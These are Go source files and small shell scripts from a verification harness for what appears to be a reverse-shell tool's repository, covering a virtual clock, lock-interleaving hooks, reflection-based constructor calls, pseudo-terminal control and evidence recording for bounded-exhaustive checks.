import (
	"fmt"
	"reflect"
)

// Call calls fn with args (see the package comment) and returns its results.
func Call(fn any, args ...any) []any {
	f := reflect.ValueOf(fn)
	t := f.Type()
	if reflect.Func != t.Kind() {
		panic(fmt.Sprintf("rcall: %T is not a function", fn))
	}
	n := t.NumIn()
	if t.IsVariadic() {
		n--
	}
	in := make([]reflect.Value, n)
	for i := range in {
		in[i] = reflect.Zero(t.In(i))
		if i >= len(args) || nil == args[i] {
			continue
		}
		v := reflect.ValueOf(args[i])
		switch {
		case v.Type().AssignableTo(t.In(i)):
			in[i] = v
		case v.Type().ConvertibleTo(t.In(i)):
			in[i] = v.Convert(t.In(i))
		}
	}
	outs := f.Call(in)
	res := make([]any, len(outs))
	for i, o := range outs {
		res[i] = o.Interface()
	}
	return res
}

// Err returns the last result of a call as an error (nil if it is not one).
func Err(res []any) error {
	if 0 == len(res) {
		return nil
	}
	err, _ := res[len(res)-1].(error)
	return err
}
