// Package rcall calls the repository's constructors through reflection, so
// that the harness still builds when one of them has grown a parameter (a
// feature that is off at its zero value): the arguments the harness knows are
// passed in order, any further parameter gets its zero value.  A parameter
// whose type no longer fits also gets its zero value; a constructor that has
// lost parameters gets the first ones only.
package rcall

import (
	"fmt"
	"reflect"
	"runtime/debug"
	"sync"
)

// Call calls fn with args (see the package comment) and returns its results.
func Call(fn any, args ...any) []any {
	f := reflect.ValueOf(fn)
	t := f.Type()
	if reflect.Func != t.Kind() {
		panic(fmt.Sprintf("rcall: %T is not a function", fn))
	}
	n := t.NumIn()
	if t.IsVariadic() {
		n--
	}
	in := make([]reflect.Value, n)
	for i := range in {
		in[i] = reflect.Zero(t.In(i))
		if i >= len(args) || nil == args[i] {
			continue
		}
		v := reflect.ValueOf(args[i])
		switch {
		case v.Type().AssignableTo(t.In(i)):
			in[i] = v
		case v.Type().ConvertibleTo(t.In(i)):
			in[i] = v.Convert(t.In(i))
		}
	}
	var outs []reflect.Value
	func() {
		defer func() {
			/* The constructor itself crashed: its results are zero values
			and, if the last one is an error, a *Panicked (also noted in
			Panics, for checks to which a crash is a finding). */
			p := recover()
			if nil == p {
				return
			}
			perr := &Panicked{Value: fmt.Sprint(p), Stack: string(debug.Stack())}
			mu.Lock()
			Panics = append(Panics, perr)
			mu.Unlock()
			outs = make([]reflect.Value, t.NumOut())
			for i := range outs {
				outs[i] = reflect.Zero(t.Out(i))
			}
			if k := len(outs) - 1; k >= 0 && t.Out(k) == reflect.TypeOf((*error)(nil)).Elem() {
				outs[k] = reflect.ValueOf(error(perr))
			}
		}()
		outs = f.Call(in)
	}()
	res := make([]any, len(outs))
	for i, o := range outs {
		res[i] = o.Interface()
	}
	return res
}

// Panicked is the error that stands for a panic of the called function.
type Panicked struct{ Value, Stack string }

func (p *Panicked) Error() string { return "the program panicked: " + p.Value }

var (
	mu sync.Mutex
	// Panics lists every panic Call has turned into an error.
	Panics []*Panicked
)

// TakePanics returns and forgets what Panics holds.
func TakePanics() []*Panicked {
	mu.Lock()
	defer mu.Unlock()
	ps := Panics
	Panics = nil
	return ps
}

// Err returns the last result of a call as an error (nil if it is not one).
func Err(res []any) error {
	if 0 == len(res) {
		return nil
	}
	err, _ := res[len(res)-1].(error)
	return err
}
