// Program vcheck runs one bounded-exhaustive check against the repository it
// was built from (see /verif/run).
package main

import (
	"fmt"
	"os"

	"github.com/magisterquis/curlrevshell/verifx/checks"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: vcheck check <Cnn> <tier> | replay <file> | worker ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "check":
		if len(os.Args) != 4 {
			fmt.Fprintln(os.Stderr, "usage: vcheck check <Cnn> <tier>")
			os.Exit(2)
		}
		os.Exit(checks.Run(os.Args[2], os.Args[3]))
	case "replay":
		os.Exit(checks.Replay(os.Args[2]))
	case "worker":
		os.Exit(checks.Worker(os.Args[2:]))
	default:
		fmt.Fprintln(os.Stderr, "unknown subcommand")
		os.Exit(2)
	}
}
