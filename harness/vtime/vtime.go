// Package vtime stands in for package time inside lib/opshell/opshell.go (by
// an import rewrite done in a build overlay, see tools/mkoverlay.py).  Time
// only moves when the explorer advances it; timers fire at their own
// deadlines, in deadline order, each callback in its own goroutine as the
// real AfterFunc does.
package vtime

import (
	"sort"
	"sync"
	"time"
	"unsafe"
)

type (
	Time     = time.Time
	Duration = time.Duration
	Month    = time.Month
	Weekday  = time.Weekday
	Location = time.Location
)

const (
	Nanosecond  = time.Nanosecond
	Microsecond = time.Microsecond
	Millisecond = time.Millisecond
	Second      = time.Second
	Minute      = time.Minute
	Hour        = time.Hour

	RFC3339     = time.RFC3339
	RFC3339Nano = time.RFC3339Nano
	Kitchen     = time.Kitchen
	StampMilli  = time.StampMilli
	DateTime    = time.DateTime
	TimeOnly    = time.TimeOnly
)

var (
	UTC   = time.UTC
	Local = time.Local
)

var clock struct {
	mu       sync.Mutex
	now      time.Time
	start    time.Time
	wallStep Duration
	timers   map[*Timer]bool
	seq      int
}

func init() { Reset(time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)) }

// Timer is the virtual counterpart of time.Timer.
type Timer struct {
	C      <-chan Time
	c      chan Time
	f      func()
	when   time.Time
	active bool
	seq    int
}

// Reset restarts the virtual clock at start and forgets every timer.
func Reset(start time.Time) {
	clock.mu.Lock()
	clock.now = start
	clock.start = start
	clock.wallStep = 0
	clock.timers = map[*Timer]bool{}
	clock.mu.Unlock()
}

// Now returns the virtual time as the real clock would: a wall-clock reading
// (which StepWall can make jump) together with a monotonic reading (which
// nothing but Advance moves).  Times that have been through Round, Truncate,
// a format/parse round trip or AddDate lose the monotonic reading, as they do
// with package time, and are then compared by their wall-clock readings.
func Now() Time {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	return dress(clock.now)
}

// timeRepr is the layout of a time.Time (unchanged since Go 1.9).
type timeRepr struct {
	wall uint64
	ext  int64
	loc  *time.Location
}

var (
	monoBase    = time.Now() /* Carries a monotonic reading. */
	monoBaseExt = (*timeRepr)(unsafe.Pointer(&monoBase)).ext
	monoOK      = 0 != (*timeRepr)(unsafe.Pointer(&monoBase)).wall>>63
)

// dress gives the internal virtual time t a monotonic reading (elapsed
// virtual time) and the stepped wall clock.  Called with clock.mu held.
func dress(t time.Time) Time {
	if !monoOK {
		return t.Add(clock.wallStep)
	}
	/* Wall = t + step, by moving the real base there ... */
	d := monoBase.Add(t.Add(clock.wallStep).Sub(monoBase.Round(0)))
	/* ... and the monotonic reading = elapsed virtual time. */
	(*timeRepr)(unsafe.Pointer(&d)).ext = monoBaseExt + int64(t.Sub(clock.start))
	(*timeRepr)(unsafe.Pointer(&d)).loc = nil /* UTC (Time.UTC would strip the monotonic reading). */
	return d
}

// StepWall makes the wall clock jump by d (NTP step, resume from suspend,
// date -s); the monotonic clock and with it every timer is unaffected.
func StepWall(d Duration) {
	clock.mu.Lock()
	clock.wallStep += d
	clock.mu.Unlock()
}
func Since(t Time) Duration { return Now().Sub(t) }
func Until(t Time) Duration { return t.Sub(Now()) }
func Unix(s, ns int64) Time { return time.Unix(s, ns) }
func Date(y int, m Month, d, h, mi, s, ns int, l *Location) Time {
	return time.Date(y, m, d, h, mi, s, ns, l)
}
func ParseDuration(s string) (Duration, error) { return time.ParseDuration(s) }

func arm(t *Timer, d Duration) {
	clock.seq++
	t.seq = clock.seq
	t.when = clock.now.Add(d)
	t.active = true
	clock.timers[t] = true
}

// AfterFunc is time.AfterFunc on the virtual clock.
func AfterFunc(d Duration, f func()) *Timer {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	t := &Timer{f: f}
	arm(t, d)
	return t
}

// NewTimer is time.NewTimer on the virtual clock.
func NewTimer(d Duration) *Timer {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	c := make(chan Time, 1)
	t := &Timer{C: c, c: c}
	arm(t, d)
	return t
}

// After is time.After on the virtual clock.
func After(d Duration) <-chan Time { return NewTimer(d).C }

// Sleep blocks until the virtual clock has advanced by d.
func Sleep(d Duration) { <-After(d) }

// Reset re-arms t to fire d from (virtual) now.
func (t *Timer) Reset(d Duration) bool {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	was := t.active
	arm(t, d)
	return was
}

// Stop disarms t.
func (t *Timer) Stop() bool {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	was := t.active
	t.active = false
	delete(clock.timers, t)
	return was
}

// Pending returns the deadlines of the armed timers, relative to now.
func Pending() []Duration {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	var ds []Duration
	for t := range clock.timers {
		if t.active {
			ds = append(ds, t.when.Sub(clock.now))
		}
	}
	sort.Slice(ds, func(i, j int) bool { return ds[i] < ds[j] })
	return ds
}

// Created reports how many timers were ever armed since the last Reset (a
// linkage check: 0 means the code under test is not using this package).
func Created() int { clock.mu.Lock(); defer clock.mu.Unlock(); return clock.seq }

// Advance moves the clock forward by d, firing every timer that becomes due,
// one at a time in deadline order (ties: arming order), at its own deadline;
// settle is called after each firing and at the end.
func Advance(d Duration, settle func()) { AdvanceN(d, settle, -1) }

// AdvanceN is Advance, but gives up (leaving the clock at the last firing)
// after max firings if max >= 0.  It returns the number of timers fired.
func AdvanceN(d Duration, settle func(), max int) (fired int) {
	clock.mu.Lock()
	target := clock.now.Add(d)
	for {
		if max >= 0 && fired >= max {
			clock.mu.Unlock()
			return fired
		}
		var next *Timer
		for t := range clock.timers {
			if !t.active || t.when.After(target) {
				continue
			}
			if nil == next || t.when.Before(next.when) || (t.when.Equal(next.when) && t.seq < next.seq) {
				next = t
			}
		}
		if nil == next {
			break
		}
		if next.when.After(clock.now) {
			clock.now = next.when
		}
		next.active = false
		delete(clock.timers, next)
		fired++
		f, c, now := next.f, next.c, dress(clock.now)
		clock.mu.Unlock()
		if nil != f {
			go f()
		} else {
			select {
			case c <- now:
			default:
			}
		}
		if nil != settle {
			settle()
		}
		clock.mu.Lock()
	}
	clock.now = target
	clock.mu.Unlock()
	if nil != settle {
		settle()
	}
	return fired
}

// Ticker is the virtual counterpart of time.Ticker.
type Ticker struct {
	C <-chan Time
	c chan Time
	d Duration
	t *Timer
}

// NewTicker is time.NewTicker on the virtual clock: a tick every d of virtual
// time, dropped (as the real one does) when the previous one was not taken.
func NewTicker(d Duration) *Ticker {
	if d <= 0 {
		panic("non-positive interval for NewTicker")
	}
	c := make(chan Time, 1)
	k := &Ticker{C: c, c: c, d: d}
	k.t = AfterFunc(d, k.tick)
	return k
}

func (k *Ticker) tick() {
	select {
	case k.c <- Now():
	default:
	}
	clock.mu.Lock()
	defer clock.mu.Unlock()
	if nil != k.t {
		arm(k.t, k.d)
	}
}

// Stop turns the ticker off.
func (k *Ticker) Stop() {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	if nil != k.t {
		k.t.active = false
		delete(clock.timers, k.t)
		k.t = nil
	}
}

// Reset changes the period.
func (k *Ticker) Reset(d Duration) {
	clock.mu.Lock()
	defer clock.mu.Unlock()
	k.d = d
	if nil != k.t {
		arm(k.t, d)
	}
}

// Tick is time.Tick on the virtual clock.
func Tick(d Duration) <-chan Time { return NewTicker(d).C }
