//go:build verif

package hsrv

// VerifAddr returns the address the server's listener is bound to.  Added by
// the verification build overlay only.
func (s *Server) VerifAddr() string { return s.l.Addr().String() }
