//go:build verif

package hsrv

import "net/http"

// VerifAddr returns the address the server's listener is bound to.  Added by
// the verification build overlay only.
func (s *Server) VerifAddr() string { return s.l.Addr().String() }

// VerifHandler returns the handler tree the server serves (the real mux with
// the real handlers), so that requests with scripted bodies can be put through
// it without a network in between.
func (s *Server) VerifHandler() http.Handler { return s.newMux() }
