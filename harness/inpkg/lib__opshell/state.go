//go:build verif

package opshell

/*
 * Added to lib/opshell by the verification build overlay only.  Reads private
 * state and presses keys the way the terminal library would (by invoking the
 * registered control-character callback).
 */

import "time"

// VerifState returns the mute flag and the time of the last plain write.
func (s *Shell) VerifState() (silenced bool, lastPlainWrite time.Time) {
	s.wL.Lock()
	defer s.wL.Unlock()
	return s.silenced, s.lastPlainWrite
}

// VerifKey invokes the control-character callback for key.
func (s *Shell) VerifKey(key rune) { s.t.ControlCharacterCallback(key) }
