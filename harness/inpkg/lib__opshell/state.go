//go:build verif

package opshell

/*
 * Added to lib/opshell by the verification build overlay only.  Reads private
 * state and presses keys the way the terminal library would (by invoking the
 * registered control-character callback).  Fields are looked up by name at
 * run time, so that a Shell which keeps its state differently still builds
 * (the checks then do without the private view).
 */

import (
	"reflect"
	"sync"
	"time"
	"unsafe"
)

// VerifState returns the mute flag (known reports whether the Shell still
// has a boolean field of that name) and the time of the last plain write.
func (s *Shell) VerifState() (silenced bool, lastPlainWrite time.Time) {
	silenced, _ = s.VerifMuted()
	return silenced, time.Time{}
}

// VerifMuted returns the mute flag, if there is one.
func (s *Shell) VerifMuted() (silenced, known bool) {
	v := reflect.ValueOf(s).Elem()
	if l := v.FieldByName("wL"); l.IsValid() && l.CanAddr() {
		if mu, ok := reflect.NewAt(l.Type(), unsafe.Pointer(l.UnsafeAddr())).Interface().(sync.Locker); ok {
			mu.Lock()
			defer mu.Unlock()
		}
	}
	f := v.FieldByName("silenced")
	if !f.IsValid() || reflect.Bool != f.Kind() {
		return false, false
	}
	return f.Bool(), true
}

// VerifKey invokes the control-character callback for key.
func (s *Shell) VerifKey(key rune) { s.t.ControlCharacterCallback(key) }
