// Package vsync stands in for package sync inside lib/opshell/opshell.go (by
// an import rewrite done in a build overlay).  Its Mutex is a real mutex with
// two scheduling points — before Lock acquires and right after it has — at
// which a hook may park the calling goroutine, so that an explorer can run
// the real code under every interleaving of its lock operations.
package vsync

import "sync"

type (
	WaitGroup = sync.WaitGroup
	Once      = sync.Once
	Cond      = sync.Cond
	Map       = sync.Map
	Pool      = sync.Pool
	Locker    = sync.Locker
	RWMutex   = sync.RWMutex
)

func OnceFunc(f func()) func()                                 { return sync.OnceFunc(f) }
func OnceValue[T any](f func() T) func() T                     { return sync.OnceValue(f) }
func OnceValues[T1, T2 any](f func() (T1, T2)) func() (T1, T2) { return sync.OnceValues(f) }
func NewCond(l Locker) *Cond                                   { return sync.NewCond(l) }

// Hook, if set, is called with "lock" before a Lock acquires, "locked" right
// after it has, and "unlock" before an Unlock releases.  It may block.
var Hook func(event string, m *Mutex)

// Mutex is sync.Mutex with scheduling points.
type Mutex struct{ mu sync.Mutex }

func (m *Mutex) Lock() {
	if h := Hook; nil != h {
		h("lock", m)
	}
	m.mu.Lock()
	if h := Hook; nil != h {
		h("locked", m)
	}
}

func (m *Mutex) Unlock() {
	if h := Hook; nil != h {
		h("unlock", m)
	}
	m.mu.Unlock()
}

func (m *Mutex) TryLock() bool {
	ok := m.mu.TryLock()
	if h := Hook; ok && nil != h {
		h("locked", m)
	}
	return ok
}
