// Package ev writes evidence files, violation (replay) artefacts and applies
// the known-findings file.  It is shared by every check.
package ev

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Dir returns the /verif directory.
func Dir() string {
	if d := os.Getenv("VERIF_DIR"); "" != d {
		return d
	}
	return "/verif"
}

// OutDir returns where evidence/ and violations/ are written: /verif, unless
// VERIF_OUT_DIR redirects them (used when a check is run against a seeded
// change, so that the committed evidence is not overwritten).
func OutDir() string {
	if d := os.Getenv("VERIF_OUT_DIR"); "" != d {
		return d
	}
	return Dir()
}

// RepoDir returns the repository being checked.
func RepoDir() string {
	if d := os.Getenv("VERIF_REPO_DIR"); "" != d {
		return d
	}
	return "/repo"
}

// Scratch returns a fresh scratch directory under .build/tmp.  The caller
// removes it.
func Scratch(prefix string) string {
	base := filepath.Join(Dir(), ".build", "tmp")
	if err := os.MkdirAll(base, 0o755); nil != err {
		Broken("mkdir scratch: %s", err)
	}
	d, err := os.MkdirTemp(base, prefix)
	if nil != err {
		Broken("mkdtemp: %s", err)
	}
	return d
}

// Broken reports that the check itself is broken and exits 2.
func Broken(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "BROKEN: "+format+"\n", a...)
	os.Exit(2)
}

// Violation is one reproducible failure of an oracle.
type Violation struct {
	Signature string `json:"signature"` /* Stable identity, for known findings. */
	What      string `json:"what"`
	Kind      string `json:"kind"`   /* Which replayer understands Replay. */
	Replay    any    `json:"replay"` /* History / input / plan. */
}

// Result is what one run of one check covered.
type Result struct {
	Property string
	Tier     string
	Level    string /* MANIFEST category. */

	mu          sync.Mutex
	Evaluations int
	Distinct    int
	States      int
	Transitions int
	Traces      int /* traces_validated_against_impl */
	Rule        string
	Samples     []any
	Exhaustive  bool
	Extra       map[string]any
	Assumptions []string
	Violations  []Violation

	start time.Time
	seen  map[string]bool
}

// New starts a result.
func New(prop, tier, level string) *Result {
	return &Result{
		Property:   prop,
		Tier:       tier,
		Level:      level,
		Exhaustive: true,
		Extra:      map[string]any{},
		start:      time.Now(),
		seen:       map[string]bool{},
	}
}

// Seed returns VERIF_SEED or 0.
func Seed() int {
	n, _ := strconv.Atoi(os.Getenv("VERIF_SEED"))
	return n
}

// Add counts n evaluations.
func (r *Result) Add(n int) {
	r.mu.Lock()
	r.Evaluations += n
	r.mu.Unlock()
}

// AddDistinct counts n distinct non-trivial cases.
func (r *Result) AddDistinct(n int) {
	r.mu.Lock()
	r.Distinct += n
	r.mu.Unlock()
}

// Sample stores a sample if fewer than max are stored.
func (r *Result) Sample(max int, s any) {
	r.mu.Lock()
	if len(r.Samples) < max {
		r.Samples = append(r.Samples, s)
	}
	r.mu.Unlock()
}

// Set sets an extra coverage key.
func (r *Result) Set(k string, v any) {
	r.mu.Lock()
	r.Extra[k] = v
	r.mu.Unlock()
}

// Get returns an extra coverage key (nil if unset).
func (r *Result) Get(k string) any {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.Extra[k]
}

// Inc increments an integer extra coverage key.
func (r *Result) Inc(k string, n int) {
	r.mu.Lock()
	cur, _ := r.Extra[k].(int)
	r.Extra[k] = cur + n
	r.mu.Unlock()
}

// Assume records an assumption.
func (r *Result) Assume(s string) {
	r.mu.Lock()
	for _, a := range r.Assumptions {
		if a == s {
			r.mu.Unlock()
			return
		}
	}
	r.Assumptions = append(r.Assumptions, s)
	r.mu.Unlock()
}

// Violate records a violation; violations with the same signature are
// recorded once.
func (r *Result) Violate(v Violation) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.seen[v.Signature] {
		return
	}
	r.seen[v.Signature] = true
	r.Violations = append(r.Violations, v)
}

// NViolations returns the number of distinct violations so far.
func (r *Result) NViolations() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.Violations)
}

// finding is an entry of known_findings.json.
type finding struct {
	Status    string `json:"status"` /* known | fixed */
	Property  string `json:"property"`
	Signature string `json:"signature"`
	What      string `json:"what"`
	Commit    string `json:"commit,omitempty"`
}

func loadKnown() []finding {
	b, err := os.ReadFile(filepath.Join(Dir(), "known_findings.json"))
	if nil != err {
		return nil
	}
	var f struct {
		Findings []finding `json:"findings"`
	}
	if err := json.Unmarshal(b, &f); nil != err {
		Broken("known_findings.json: %s", err)
	}
	return f.Findings
}

// Finish writes the evidence file and the violation artefacts, prints the
// VIOLATION / KNOWN-FINDING lines and returns the exit status.
func (r *Result) Finish() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	known := loadKnown()
	sort.Slice(r.Violations, func(i, j int) bool {
		return r.Violations[i].Signature < r.Violations[j].Signature
	})
	var (
		unlisted int
		nKnown   int
	)
	for _, v := range r.Violations {
		isKnown := false
		for _, k := range known {
			if "known" == k.Status && k.Property == r.Property &&
				sigMatch(k.Signature, v.Signature) {
				isKnown = true
				break
			}
		}
		if isKnown {
			nKnown++
			fmt.Printf("KNOWN-FINDING: property=%s %s (%s)\n",
				r.Property, v.Signature, oneLine(v.What))
			continue
		}
		unlisted++
		/* Write a replay artefact. */
		h := sha256.Sum256([]byte(v.Signature))
		p := filepath.Join(OutDir(), "violations", fmt.Sprintf(
			"%s-%s.json", r.Property, hex.EncodeToString(h[:6]),
		))
		os.MkdirAll(filepath.Dir(p), 0o755)
		b, _ := json.MarshalIndent(map[string]any{
			"property":  r.Property,
			"signature": v.Signature,
			"what":      v.What,
			"kind":      v.Kind,
			"replay":    v.Replay,
		}, "", " ")
		os.WriteFile(p, b, 0o644)
		fmt.Printf("# %s: %s\n", v.Signature, oneLine(v.What))
		fmt.Printf("VIOLATION property=%s replay=%s\n", r.Property, p)
	}

	/* Evidence. */
	cov := map[string]any{}
	for k, v := range r.Extra {
		cov[k] = v
	}
	cov["evaluations"] = r.Evaluations
	cov["distinct_nontrivial"] = r.Distinct
	cov["rule"] = r.Rule
	if 0 == len(r.Samples) {
		r.Samples = []any{"(no sample recorded)"}
	}
	cov["samples"] = r.Samples
	cov["exhaustive"] = r.Exhaustive
	if "model_checking" == r.Level {
		cov["states"] = r.States
		cov["transitions"] = r.Transitions
		cov["traces_validated_against_impl"] = r.Traces
	}
	cov["known_findings_reported"] = nKnown
	evd := map[string]any{
		"property_id": r.Property,
		"tier":        r.Tier,
		"seed":        Seed(),
		"level":       r.Level,
		"coverage":    cov,
		"assumptions": append([]string{}, r.Assumptions...),
		"wall_s":      time.Since(r.start).Seconds(),
		"violations":  unlisted,
	}
	b, err := json.MarshalIndent(evd, "", " ")
	if nil != err {
		Broken("marshal evidence: %s", err)
	}
	ep := filepath.Join(OutDir(), "evidence", r.Property+".json")
	os.MkdirAll(filepath.Dir(ep), 0o755)
	if err := os.WriteFile(ep, append(b, '\n'), 0o644); nil != err {
		Broken("write evidence: %s", err)
	}
	fmt.Printf(
		"%s %s: evaluations=%d distinct=%d states=%d transitions=%d "+
			"traces=%d exhaustive=%v violations=%d known=%d wall=%.1fs\n",
		r.Property, r.Tier, r.Evaluations, r.Distinct, r.States,
		r.Transitions, r.Traces, r.Exhaustive, unlisted, nKnown,
		time.Since(r.start).Seconds(),
	)
	if 0 != unlisted {
		return 1
	}
	return 0
}

// sigMatch matches a known-finding signature against a violation signature.
// A trailing '*' in the known signature matches any suffix.
func sigMatch(known, got string) bool {
	if strings.HasSuffix(known, "*") {
		return strings.HasPrefix(got, strings.TrimSuffix(known, "*"))
	}
	return known == got
}

func oneLine(s string) string {
	s = strings.ReplaceAll(s, "\n", " | ")
	if len(s) > 300 {
		s = s[:300] + "..."
	}
	return s
}
