// Package ptyrun starts programs on a fresh pseudo-terminal (as session
// leader with the pty as controlling terminal), or deliberately without any
// controlling terminal, reads what they write, sends keys and compares the
// terminal modes before and after.
package ptyrun

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"
)

// PTY is one pseudo-terminal pair.
type PTY struct {
	Master *os.File
	Slave  *os.File
	Name   string
}

func ioctl(fd uintptr, req uintptr, arg unsafe.Pointer) error {
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, fd, req, uintptr(arg)); 0 != e {
		return e
	}
	return nil
}

// Open makes a new pty with a cols x rows window.
func Open(cols, rows int) (*PTY, error) {
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if nil != err {
		return nil, err
	}
	var unlock int32
	if err := ioctl(m.Fd(), syscall.TIOCSPTLCK, unsafe.Pointer(&unlock)); nil != err {
		m.Close()
		return nil, fmt.Errorf("unlockpt: %w", err)
	}
	var n uint32
	if err := ioctl(m.Fd(), syscall.TIOCGPTN, unsafe.Pointer(&n)); nil != err {
		m.Close()
		return nil, fmt.Errorf("ptsname: %w", err)
	}
	name := fmt.Sprintf("/dev/pts/%d", n)
	s, err := os.OpenFile(name, os.O_RDWR|syscall.O_NOCTTY, 0)
	if nil != err {
		m.Close()
		return nil, err
	}
	ws := struct{ Row, Col, X, Y uint16 }{uint16(rows), uint16(cols), 0, 0}
	if err := ioctl(s.Fd(), syscall.TIOCSWINSZ, unsafe.Pointer(&ws)); nil != err {
		m.Close()
		s.Close()
		return nil, fmt.Errorf("setting window size: %w", err)
	}
	return &PTY{Master: m, Slave: s, Name: name}, nil
}

// Close closes both ends.
func (p *PTY) Close() {
	p.Master.Close()
	p.Slave.Close()
}

// Termios reads the terminal modes (through the slave end the parent keeps).
func (p *PTY) Termios() (syscall.Termios, error) {
	var t syscall.Termios
	err := ioctl(p.Slave.Fd(), syscall.TCGETS, unsafe.Pointer(&t))
	return t, err
}

// Proc is a started program.
type Proc struct {
	Cmd    *exec.Cmd
	PTY    *PTY            /* nil when started without a terminal */
	Before syscall.Termios /* Terminal modes before the program was started. */
	mu     sync.Mutex
	cond   *sync.Cond
	out    bytes.Buffer /* Everything read from the master (or the pipes). */
	eof    bool
	done   chan struct{}
	err    error
}

// Start runs cmd on a fresh pty: stdin, stdout and stderr are the slave and
// it is the controlling terminal.
func Start(cmd *exec.Cmd) (*Proc, error) {
	p, err := Open(200, 50)
	if nil != err {
		return nil, err
	}
	cmd.Stdin, cmd.Stdout, cmd.Stderr = p.Slave, p.Slave, p.Slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	pr := &Proc{Cmd: cmd, PTY: p, done: make(chan struct{})}
	pr.Before, _ = p.Termios()
	pr.cond = sync.NewCond(&pr.mu)
	if err := cmd.Start(); nil != err {
		p.Close()
		return nil, err
	}
	go pr.pump(p.Master)
	go func() { pr.err = cmd.Wait(); close(pr.done) }()
	return pr, nil
}

// StartCtty runs cmd with its stdio left as the caller set it (pipes, files)
// but with a fresh pty as controlling terminal (reachable as /dev/tty).
func StartCtty(cmd *exec.Cmd) (*Proc, error) {
	p, err := Open(200, 50)
	if nil != err {
		return nil, err
	}
	cmd.ExtraFiles = append(cmd.ExtraFiles, p.Slave)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 2 + len(cmd.ExtraFiles)}
	pr := &Proc{Cmd: cmd, PTY: p, done: make(chan struct{})}
	pr.Before, _ = p.Termios()
	pr.cond = sync.NewCond(&pr.mu)
	if err := cmd.Start(); nil != err {
		p.Close()
		return nil, err
	}
	go pr.pump(p.Master)
	go func() { pr.err = cmd.Wait(); close(pr.done) }()
	return pr, nil
}

// StartNoTTY runs cmd in a new session without any controlling terminal,
// stdin empty, stdout and stderr captured.
func StartNoTTY(cmd *exec.Cmd) (*Proc, error) {
	r, w, err := os.Pipe()
	if nil != err {
		return nil, err
	}
	devnull, _ := os.Open(os.DevNull)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = devnull, w, w
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	pr := &Proc{Cmd: cmd, done: make(chan struct{})}
	pr.cond = sync.NewCond(&pr.mu)
	if err := cmd.Start(); nil != err {
		r.Close()
		w.Close()
		return nil, err
	}
	w.Close()
	devnull.Close()
	go pr.pump(r)
	go func() { pr.err = cmd.Wait(); close(pr.done) }()
	return pr, nil
}

func (p *Proc) pump(f *os.File) {
	buf := make([]byte, 64*1024)
	for {
		n, err := f.Read(buf)
		p.mu.Lock()
		p.out.Write(buf[:n])
		if nil != err {
			p.eof = true
		}
		p.cond.Broadcast()
		p.mu.Unlock()
		if nil != err {
			return
		}
	}
}

const endMarker = "\x01<<pty-end-of-output>>\x01"

// Output returns everything read so far.
func (p *Proc) Output() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return strings.ReplaceAll(p.out.String(), endMarker, "")
}

// WaitFor waits until the output (from offset from) matches re, and returns
// the end offset of the match, or -1 after timeout / end of output.
func (p *Proc) WaitFor(re *regexp.Regexp, from int, timeout time.Duration) int {
	deadline := time.Now().Add(timeout)
	t := time.AfterFunc(timeout, func() { p.mu.Lock(); p.cond.Broadcast(); p.mu.Unlock() })
	defer t.Stop()
	p.mu.Lock()
	defer p.mu.Unlock()
	for {
		b := p.out.Bytes()
		if from <= len(b) {
			if loc := re.FindIndex(b[from:]); nil != loc {
				return from + loc[1]
			}
		}
		if p.eof || time.Now().After(deadline) {
			return -1
		}
		p.cond.Wait()
	}
}

// Send writes keys to the terminal.
func (p *Proc) Send(keys string) error {
	_, err := p.PTY.Master.WriteString(keys)
	return err
}

// Wait waits for the program to exit and returns its exit status (-1 if it
// had to be killed after the timeout).
func (p *Proc) Wait(timeout time.Duration) int {
	select {
	case <-p.done:
	case <-time.After(timeout):
		p.Cmd.Process.Kill()
		<-p.done
		return -1
	}
	/* Let the pump see the end of output: the program is gone, so what it
	wrote is in the pty; a marker written through the slave end comes out of
	the master after it. */
	if nil != p.PTY {
		p.PTY.Slave.WriteString(endMarker)
		p.WaitFor(regexp.MustCompile(regexp.QuoteMeta(endMarker)), 0, 10*time.Second)
	} else {
		p.mu.Lock()
		for !p.eof {
			p.cond.Wait()
		}
		p.mu.Unlock()
	}
	if nil == p.err {
		return 0
	}
	if ee, ok := p.err.(*exec.ExitError); ok {
		return ee.ExitCode()
	}
	return -2
}

// Done reports whether the program has exited.
func (p *Proc) Done() bool {
	select {
	case <-p.done:
		return true
	default:
		return false
	}
}

// Close releases the pty.
func (p *Proc) Close() {
	if !p.Done() {
		p.Cmd.Process.Kill()
		<-p.done
	}
	if nil != p.PTY {
		p.PTY.Close()
	}
}
