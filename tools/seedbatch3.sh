cd "$(dirname "$0")/.."
for x in "C16 B" "C09 A" "C09 B" "C07 A" "C07 B" "C05 A" "C05 B"; do echo "=== $x"; tools/seedauto.sh $x 2>&1 | grep -E '^(suite|demo|check|patch|#)' | cut -c1-220; done
