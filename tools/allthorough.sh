cd "$(dirname "$0")/.."
for c in C15 C16 C17 C18 C09 C10 C07 C05 C13 C14 C08 C20 C12 C19 C03 C06 C02 C11 C01 C04; do
	s=$(date +%s)
	./run $c thorough > /tmp/thorough-$c.out 2>&1
	rc=$?
